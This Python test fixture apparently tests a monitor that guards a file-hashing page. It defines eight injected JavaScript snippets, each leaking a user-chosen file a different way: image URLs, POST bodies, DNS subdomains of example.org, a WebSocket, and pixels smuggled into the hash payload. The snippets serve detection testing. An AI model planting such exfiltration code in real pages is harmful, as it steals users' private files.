"""Eight builds of the page that leak on purpose, to try the watch by.

Each is the product's own page with a few lines of script added; `secret` is the file of
one kind, of which it gives something away. Together they try the watch for all kinds.
"""

from dataclasses import dataclass

# Runs before the page's own listener, which lets go of the files.
_WHEN_CHOSEN = """
globalThis.leaked = false;
window.addEventListener("change", async (event) => {
  const secret = [...event.target.files ?? []].find(({ name }) => name.endsWith("%s"));
  if (!secret) return;
  const text = async () => new Uint8Array(await secret.arrayBuffer());
  const inBase64 = async (from, to) =>
    btoa(String.fromCharCode(...(await text()).subarray(from, to)));
  const shown = async () => {
    if (!secret.name.endsWith("webm"))
      return createImageBitmap(secret, { colorSpaceConversion: "none" });
    // Held: what nothing refers to may be collected before it has loaded.
    const video = globalThis.held = document.createElement("video");
    [video.muted, video.preload] = [true, "auto"];
    video.src = URL.createObjectURL(secret);
    await new Promise((go) => { video.onloadeddata = go; });
    const sought = new Promise((go) => { video.onseeked = go; });
    video.currentTime = 0.5;
    await sought;
    [video.width, video.height] = [video.videoWidth, video.videoHeight];
    return video;
  };
  const drawn = async (width, height) => {
    const bitmap = await shown();
    const canvas = document.createElement("canvas");
    canvas.width = width || bitmap.width;
    canvas.height = height || bitmap.height;
    const context = canvas.getContext("2d");
    context.drawImage(bitmap, 0, 0, canvas.width, canvas.height);
    return { canvas, context };
  };
  try { %s } catch (error) { console.log(String(error)); }
  globalThis.leaked = true;
}, true);
"""


@dataclass(frozen=True)
class Leak:
    """Lines to run when files were chosen; `carries` says if they hold bytes of one.

    A thumbnail does not: its pixels are others, and a WebP has no tables that all have.
    It is noticed as something that should not have been sent.
    """

    name: str
    lines: str
    of: str = "png"
    carries: bool = True
    replaces: tuple[str, str, str] = ("", "", "")

    @property
    def script(self) -> str:
        return _WHEN_CHOSEN % (self.of, self.lines)


LEAKS = (
    Leak(
        "its name, in the address of a picture",
        "const pixel = new Image(); pixel.src = '/pixel.gif?q=' +"
        " encodeURIComponent(secret.name); await pixel.decode().catch(() => {});",
    ),
    Leak(
        "its bytes, in base64, posted to the right address",
        "await fetch('/take-it-down/hashes',"
        " { method: 'POST', body: await inBase64(40, 900) });",
        of="gif",
    ),
    Leak(
        "the pixels of a frame, posted as they are",
        "const { canvas, context } = await drawn();"
        " await fetch('/x', { method: 'POST', body:"
        " context.getImageData(0, 0, canvas.width, 3).data });",
        of="webm",
    ),
    Leak(
        "a thumbnail, as a picture in a text",
        "const { canvas } = await drawn(16, 16);"
        " await fetch('/x', { method: 'POST', body: canvas.toDataURL('image/webp') });",
        of="jpg",
        carries=False,
    ),
    Leak(
        "what the camera wrote into it, in an address",
        "const all = new TextDecoder('latin1').decode(await text());"
        " const at = all.indexOf('camera of');"
        " await fetch('/x/' + encodeURIComponent(all.slice(at, at + 30)));",
        of="jpg",
    ),
    Leak(
        "its pixels, among the hashes",
        "const { context } = await drawn();"
        " const some = context.getImageData(8, 5, 8, 1).data;"
        " globalThis.stolen = Array.from(some,"
        " (byte) => byte.toString(16).padStart(2, '0')).join('');",
        replaces=(
            "sending.js",
            "quality: String(quality), pdq }",
            "quality: String(quality), pdq: [...pdq.slice(0, 9), globalThis.stolen] }",
        ),
    ),
    Leak(
        "its name, asked of the name server",
        "const hex = Array.from(new TextEncoder().encode(secret.name.slice(0, 24)),"
        " (byte) => byte.toString(16).padStart(2, '0')).join('');"
        " await fetch(`http://${hex}.example.org:8080/`, { mode: 'no-cors' })"
        ".catch(() => {});",
    ),
    Leak(
        "its bytes, by a web socket",
        "const socket = new WebSocket('ws://localhost:8080/x');"
        " const bytes = await text(); const wait = (go) => setTimeout(go, 10);"
        " await new Promise((go) => { socket.onopen = go; socket.onerror = go; });"
        " socket.send(bytes.subarray(50, 2000));"
        # What a closed one was given stays in its buffer for ever.
        " while (socket.bufferedAmount && socket.readyState === WebSocket.OPEN)"
        " await new Promise(wait);",
        of="webp",
    ),
)
